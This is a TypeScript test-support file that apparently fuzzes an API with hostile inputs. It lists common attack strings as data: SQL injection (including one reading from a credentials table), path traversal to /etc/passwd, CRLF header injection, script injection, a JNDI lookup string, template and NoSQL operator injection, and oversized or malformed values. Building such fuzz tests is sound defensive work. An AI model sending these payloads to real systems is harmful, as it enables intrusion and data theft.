import { pick, type Random } from '../support/seeded-random.js';

/** Strings an attacker (or a broken client) would try in any text field, id or query value. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE destinations; --",
  '1; SELECT pg_sleep(5)',
  "act_1' UNION SELECT token_sealed FROM credentials --",
  'a\u0000b',
  '\u0000',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/etc/passwd',
  '/%2e%2e/%2e%2e/',
  '..\\..\\windows\\win.ini',
  'x\r\nSet-Cookie: session=1',
  'x\r\n\r\nHTTP/1.1 200 OK',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u202egnp.exe',
  '😀'.repeat(5_000),
  'é'.repeat(70_000),
  'a'.repeat(300_000),
  '',
  ' ',
  '-1',
  '1e309',
  'NaN',
  '0x7fffffff',
  '00000000-0000-0000-0000-000000000000',
  '00000000-0000-0000-0000-00000000000G',
  'null',
  'true',
  '[]',
  '{"$gt":""}',
];

/** Values of every JSON type, for fields that expect another. */
export function hostileValue(rnd: Random, depth = 0): unknown {
  const r = rnd();
  if (r < 0.55) return pick(rnd, HOSTILE_STRINGS);
  if (r < 0.65) return pick(rnd, [0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2]);
  if (r < 0.7) return pick(rnd, [true, false, null]);
  if (r < 0.8 && depth < 3) return [hostileValue(rnd, depth + 1), hostileValue(rnd, depth + 1)];
  if (r < 0.9 && depth < 3) return { [pick(rnd, HOSTILE_STRINGS).slice(0, 40)]: hostileValue(rnd, depth + 1) };
  // Deep nesting: 2,000 levels of arrays.
  return JSON.parse('['.repeat(2_000) + ']'.repeat(2_000)) as unknown;
}
